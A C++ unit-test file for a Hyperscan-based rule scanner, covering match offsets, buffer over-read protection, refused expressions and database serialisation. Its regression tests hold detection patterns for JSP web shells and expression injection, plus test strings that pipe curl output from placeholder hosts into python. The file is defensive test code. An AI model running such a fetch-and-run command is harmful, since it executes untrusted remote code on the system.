#include "scanners/rules/hyperscan.h"

#include <span>
#include <string>
#include <string_view>
#include <type_traits>
#include <vector>

#include <doctest/doctest.h>

namespace credence {
namespace {

// Hyperscan 5.4.0 reads up to two bytes past the end of what it scans. A text that ends at
// the end of a page, a mapped file say, would be a way to stop the process; the type of
// scan()'s argument is what prevents it.
template <typename Text>
concept Scannable = requires(const HyperscanDatabase& database, Text text,
                             HyperscanScratch& scratch,
                             bool (&on_match)(std::uint32_t, std::uint64_t) noexcept) {
  database.scan(text, scratch, on_match);
};
static_assert(Scannable<PaddedView>);
static_assert(!Scannable<std::string_view>);
static_assert(!Scannable<std::string>);
static_assert(!Scannable<const char*>);
static_assert(!Scannable<std::span<const char>>);
static_assert(!std::is_constructible_v<PaddedView, const char*, std::size_t>);
static_assert(!std::is_constructible_v<PaddedView, std::string_view>);

HyperscanPattern pattern(std::string expression, std::uint32_t id = 0) {
  HyperscanPattern out;
  out.expression = std::move(expression);
  out.id = id;
  return out;
}

struct Match {
  std::uint32_t id;
  std::uint64_t end;
  bool operator==(const Match&) const = default;
};

std::vector<Match> scan(const HyperscanDatabase& database, PaddedView text) {
  HyperscanScratch scratch;
  REQUIRE(scratch.fit(database).ok());
  std::vector<Match> matches;
  matches.reserve(1024);
  auto on_match = [&](std::uint32_t id, std::uint64_t end) noexcept {
    matches.push_back({id, end});
    return matches.size() < 1024;
  };
  REQUIRE(database.scan(text, scratch, on_match).ok());
  return matches;
}

std::vector<Match> scan(const std::vector<HyperscanPattern>& patterns, std::string_view text) {
  const auto database = HyperscanDatabase::compile(patterns);
  REQUIRE(database.ok());
  const PaddedBuffer buffer = PaddedBuffer::copy_of(text);
  return scan(*database, buffer.view());
}

TEST_CASE("the shapes on which engines of this family disagree") {
  // VectorCamp/vectorscan issues 358 and 382: Debian's vectorscan 5.4.9 loses all four.
  SUBCASE("358: a set of three") {
    const auto matches =
        scan({pattern(R"(<%[\s\S]+%>)", 0),
              pattern("<[^<>]+:(include|forward|invoke|doBody|getProperty|setProperty|useBean|"
                      "plugin|element|attribute|body|fallback|params|param|output|root)",
                      1),
              pattern(R"([\$#]{[\s\S]+\([\s\S]*\)[\s\S]*})", 2)},
             "<%out.print();int a%>");
    CHECK(matches == std::vector<Match>{{0, 21}});
  }
  SUBCASE("382: any character, any number of times") {
    for (const std::string_view host : {"xxx:8000", "xxxx:8000", "vader:8080"}) {
      CAPTURE(host);
      HyperscanPattern piped = pattern(R"(curl.*\|\s*python)");
      piped.dot_all = true;
      const std::string text = "curl http://" + std::string(host) + "/ 2>&1 | python";
      CHECK(scan({piped}, text) == std::vector<Match>{{0, text.size()}});
    }
  }
  SUBCASE("100: no match where there is none") {
    HyperscanPattern anchored = pattern(R"(^x\\z*x)", 0);
    HyperscanPattern tail = pattern(R"(y\\z*TEXT12345)", 1);
    for (HyperscanPattern* each : {&anchored, &tail}) {
      each->dot_all = true;
      each->multi_line = true;
    }
    CHECK(scan({anchored, tail}, "xxxxxxxxxx?y\nTEXT12345xxxxxxxxxxxx").empty());
  }
}

// Every length of text up to a few vectors, at every place of a match: the seams of the
// vectorised matchers.
TEST_CASE("a literal is found at each offset of each length") {
  const auto database =
      HyperscanDatabase::compile(std::vector{pattern("needle"), pattern("zz", 1)});
  REQUIRE(database.ok());
  for (std::size_t size = 6; size < 200; size += 7) {
    for (std::size_t at = 0; at + 6 <= size; ++at) {
      std::string text(size, '.');
      text.replace(at, 6, "needle");
      const PaddedBuffer buffer = PaddedBuffer::copy_of(text);
      const auto matches = scan(*database, buffer.view());
      if (matches != std::vector<Match>{{0, at + 6}}) {
        CAPTURE(size);
        CAPTURE(at);
        CHECK(matches == std::vector<Match>{{0, at + 6}});
      }
    }
  }
}

TEST_CASE("bytes behind the end do not match") {
  const auto database = HyperscanDatabase::compile(std::vector{pattern("abc")});
  REQUIRE(database.ok());
  const PaddedBuffer buffer = PaddedBuffer::copy_of("xxabc");
  CHECK(scan(*database, buffer.view().subview(0, 4)).empty());
  CHECK(scan(*database, buffer.view().subview(0, 5)).size() == 1);
}

TEST_CASE("a refused expression names its index") {
  struct Case {
    std::string name;
    const char* expression;
  };
  const Case cases[] = {
      {"look-behind", "(?<!a)b"}, {"back-reference", R"((a)\1)"}, {"open group", "(ab"},
      {"matches empty", "a*"},    {"open class", "[ab"},
  };
  for (const Case& c : cases) {
    CAPTURE(c.name);
    std::size_t failed = 99;
    const auto database = HyperscanDatabase::compile(
        std::vector{pattern("good"), pattern(c.expression), pattern("fine")}, &failed);
    CHECK(!database.ok());
    CHECK(failed == 1);
    if (!database) CHECK(!database.error().message().empty());
  }
}

TEST_CASE("a serialised database reads back, a damaged one does not") {
  const auto database = HyperscanDatabase::compile(std::vector{pattern("needle")});
  REQUIRE(database.ok());
  const auto bytes = database->serialise();
  REQUIRE(bytes.ok());
  const PaddedBuffer text = PaddedBuffer::copy_of("a needle");
  const auto again = HyperscanDatabase::deserialise(*bytes);
  REQUIRE(again.ok());
  CHECK(scan(*again, text.view()).size() == 1);
  CHECK(!HyperscanDatabase::deserialise(std::string_view(*bytes).substr(0, 10)).ok());
  CHECK(!HyperscanDatabase::deserialise("").ok());
  std::string damaged = *bytes;
  damaged[0] = static_cast<char>(damaged[0] ^ 1);
  CHECK(!HyperscanDatabase::deserialise(damaged).ok());
}

}  // namespace
}  // namespace credence
